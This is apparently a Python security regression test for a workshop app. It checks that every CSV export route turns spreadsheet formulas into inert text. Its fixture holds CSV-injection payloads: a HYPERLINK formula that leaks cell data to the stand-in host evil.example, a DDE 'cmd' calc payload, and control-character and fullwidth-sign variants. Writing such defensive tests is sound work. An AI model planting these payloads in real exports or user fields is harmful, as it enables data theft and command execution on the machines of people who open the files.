"""Every CSV the app serves keeps a formula as text, whatever comes before it (issue 14).

The cells used to be neutralised first and cleaned of control characters
after, so "\\x01=HYPERLINK(...)" passed the check and came out as a live
formula. Here hostile text goes in where people type it (a decision, an
action and its deadline, poll options and an owner that become plan rows, an
audit entry) and every .csv route in the route table is downloaded: no cell
reads as a formula, and the text is there, behind an apostrophe.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Callable

from starlette.routing import Route
from starlette.testclient import TestClient

from server.engine import Actor, ActorRole, CommandRejected
from server.engine.commands import (
    AddAction,
    EndSession,
    GoToStep,
    Join,
    RecordDecision,
    StartSession,
)
from server.engine.steps.poll import AddPollOption, AssignHorizon, CastBallot, ClosePoll, OpenPoll
from tests.security.sec_support import cast

FAC = Actor(ActorRole.FACILITATOR, "user:1")
LINK = '=HYPERLINK("http://evil.example/?"&A1;"klik")'
HOSTILE = {
    "decision": "\x01" + LINK,
    "decided_by": "\x1b@SUM(A1:A9)",
    "what": "\x7f" + LINK,
    "who": "\u200b+1+1",
    "due": "\x01-2+3",
    "option_a": "\x02" + LINK,
    "option_b": "\uff1dHYPERLINK(A1)",
    "owner": "\u00a0@cmd",
    "audit_target": "\x01" + LINK,
    "audit_actor": "\t=cmd|' /C calc'!A0",
}
SIGNS = set("=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212")


def live_formula(value: str) -> bool:
    if value[:1] in ("\t", "\r", "\n"):
        return True
    for char in value:
        if char.isspace() or unicodedata.category(char) in ("Cc", "Cf", "Zs", "Zl", "Zp"):
            continue
        return char in SIGNS
    return False


def test_every_csv_download_keeps_formulas_as_text(
    client: TestClient, new_browser: Callable[[], TestClient]
) -> None:
    people = cast(client, new_browser)
    svc = people.services
    eid = people.engagement_id

    async def seed() -> str:
        row = await svc.create_session(eid, "implementeringsworkshop", people.users["facilitator"])
        live = await svc.live.get(row.id)
        assert live is not None
        for command in (
            Join(actor=Actor(ActorRole.PARTICIPANT, "a"), name="Anne"),
            StartSession(actor=FAC),
            GoToStep(actor=FAC, step_id="prioritering"),
            AddPollOption(
                actor=FAC, poll_id="prioritering", option_id="o1", label=HOSTILE["option_a"]
            ),
            AddPollOption(
                actor=FAC, poll_id="prioritering", option_id="o2", label=HOSTILE["option_b"]
            ),
            OpenPoll(actor=FAC, poll_id="prioritering"),
            CastBallot(
                actor=Actor(ActorRole.PARTICIPANT, "a"),
                poll_id="prioritering",
                ballot_id="b1",
                voter="anon-a",
                payload=("o1", "o2"),
            ),
            ClosePoll(actor=FAC, poll_id="prioritering"),
            AssignHorizon(
                actor=FAC,
                poll_id="prioritering",
                option_id="o1",
                horizon="short",
                owner=HOSTILE["owner"],
            ),
            GoToStep(actor=FAC, step_id="beslutninger"),
            RecordDecision(
                actor=FAC,
                decision_id="d1",
                text=HOSTILE["decision"],
                decided_by=HOSTILE["decided_by"],
            ),
            AddAction(
                actor=FAC,
                action_id="a1",
                what=HOSTILE["what"],
                who=HOSTILE["who"],
                due=HOSTILE["due"],
            ),
            EndSession(actor=FAC),
        ):
            out = await live.submit(command)
            assert not isinstance(out, CommandRejected), (command, out)
        await svc.repo.audit("login", HOSTILE["audit_target"], actor=HOSTILE["audit_actor"])
        return row.id

    session_id = client.portal.call(seed)
    admin = people.browsers["admin"]
    fill = {"session_id": session_id, "engagement_id": eid}
    routes = [r.path for r in client.app.routes if isinstance(r, Route) and r.path.endswith(".csv")]
    assert len(routes) >= 5, routes  # decisions, actions, plan, audit, the register's template
    carried = 0
    for path in routes:
        url = path
        for name, value in fill.items():
            url = url.replace("{" + name + "}", value)
        r = admin.get(url)
        assert r.status_code == 200, (url, r.status_code)
        assert r.headers["content-type"].startswith("text/csv"), url
        text = r.content.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
            for value in row:
                assert not live_formula(value), (url, value)
                carried += value.startswith("'")
    # decision, decided by, what, who (+ the deadline in "what"), two plan rows, owner, audit x2
    assert carried >= 9, carried
